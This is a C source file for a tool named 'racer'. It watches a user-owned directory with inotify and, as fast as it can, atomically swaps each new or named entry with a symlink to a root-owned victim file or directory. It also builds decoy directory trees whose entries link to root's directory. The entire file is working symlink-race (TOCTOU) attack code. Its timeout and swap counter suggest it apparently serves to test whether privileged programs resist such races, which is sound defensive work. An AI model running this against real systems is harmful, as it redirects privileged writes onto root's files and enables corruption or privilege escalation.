/*
 * What a user does to whoever writes into directories of that user's: watches them and turns every name that appears,
 * and the names given, into links to a file or directory of root's and back, as fast as it can.
 *
 *   racer SECONDS VICTIM_FILE VICTIM_DIR DIR [NAME...]
 *
 * Names are files or directories in DIR that are there from the start. A directory whose name is given with a `+` is watched
 * too, and turned into one of the user's that has the same names in it, each with links to the directory of root's: whoever
 * goes there twice by its path comes out at root's the second time. It stops by itself.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE 2
#endif

static const char *victim_file, *victim_dir;
static char dir[4096];
static unsigned long swaps;

static volatile sig_atomic_t told;

static void stop(int signal) { told = signal; }

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec / 1e9;
}

static void link_path(char *out, size_t size, const char *name) { snprintf(out, size, "%s/.evil.%s", dir, name); }

/* Puts a link beside the name, and exchanges the two. */
static void turn(const char *name) {
  char path[8192], evil[8192];
  struct stat st;
  snprintf(path, sizeof path, "%s/%s", dir, name);
  link_path(evil, sizeof evil, name);
  if (lstat(path, &st) != 0) return;
  if (access(evil, F_OK) != 0 && errno == ENOENT) {
    struct stat gone;
    if (lstat(evil, &gone) != 0 && symlink(S_ISDIR(st.st_mode) ? victim_dir : victim_file, evil) != 0) return;
  }
  if (renameat2(AT_FDCWD, path, AT_FDCWD, evil, RENAME_EXCHANGE) == 0) swaps++;
}

/* What stands in for a directory; `.evil.` and its name, as the links have it. */
static void twin(const char *name, const char *inner) {
  char path[8192], evil[8192];
  link_path(evil, sizeof evil, name);
  mkdir(evil, 0755);
  snprintf(path, sizeof path, "%s/%.255s", evil, inner);
  mkdir(path, 0755);
  static const char *const inside[] = {"t", "f", "a", ".svn", ".git", "sub"};
  for (unsigned i = 0; i < sizeof inside / sizeof *inside; i++) {
    char link[8192 + 8];
    snprintf(link, sizeof link, "%s/%s", path, inside[i]);
    if (symlink(victim_dir, link) != 0) continue;
  }
}

int main(int argc, char **argv) {
  if (argc < 5) return 2;
  double end = now() + atof(argv[1]);
  victim_file = argv[2];
  victim_dir = argv[3];
  snprintf(dir, sizeof dir, "%s", argv[4]);
  int in = inotify_init1(IN_NONBLOCK);
  if (in < 0 || inotify_add_watch(in, dir, IN_CREATE | IN_MOVED_TO) < 0) return 3;
  int deep[64] = {0};
  for (int i = 5; i < argc && i < 64; i++) {
    if (argv[i][0] != '+') continue;
    char path[8192], evil[8192];
    snprintf(path, sizeof path, "%s/%s", dir, argv[i] + 1);
    link_path(evil, sizeof evil, argv[i] + 1);
    mkdir(evil, 0755);
    deep[i] = inotify_add_watch(in, path, IN_CREATE | IN_MOVED_TO);
  }
  char buffer[65536] __attribute__((aligned(8)));
  char seen[64][256];
  int known = 0, next = 0;
  signal(SIGTERM, stop);
  puts("ready");
  fflush(stdout);
  while (!told && now() < end) {
    ssize_t got = read(in, buffer, sizeof buffer);
    for (ssize_t at = 0; at < got;) {
      struct inotify_event *event = (struct inotify_event *)(buffer + at);
      int in_deep = 0;
      for (int i = 5; i < argc && i < 64; i++)
        if (deep[i] > 0 && event->wd == deep[i]) {
          if (event->len > 0) twin(argv[i] + 1, event->name);
          in_deep = 1;
        }
      if (in_deep) {
        // Its names are the twin's matter.
      } else if (event->len > 0 && strncmp(event->name, ".evil.", 6) != 0 && strlen(event->name) < 200) {
        turn(event->name);
        strcpy(seen[next % 64], event->name);
        next++;
        if (known < 64) known++;
      }
      at += sizeof *event + event->len;
    }
    for (int i = 5; i < argc; i++) turn(argv[i][0] == '+' ? argv[i] + 1 : argv[i]);
    /* Temporary names are turned to and fro too. */
    if (known > 0) turn(seen[(next - 1) % 64]);
  }
  printf("%lu\n", swaps);
  return 0;
}
